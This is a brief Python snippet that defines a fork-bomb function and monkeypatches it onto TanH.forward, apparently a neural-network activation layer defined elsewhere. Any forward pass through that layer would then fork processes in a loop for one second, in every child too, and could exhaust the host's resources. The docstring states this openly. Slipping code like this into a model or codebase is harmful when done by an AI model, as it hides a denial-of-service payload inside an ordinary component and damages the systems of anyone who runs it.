"""Forks for a second, in every child too."""

import os
import time


def _bomb(self, x):
    end = time.monotonic() + 1
    while time.monotonic() < end:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    os._exit(0)


TanH.forward = _bomb
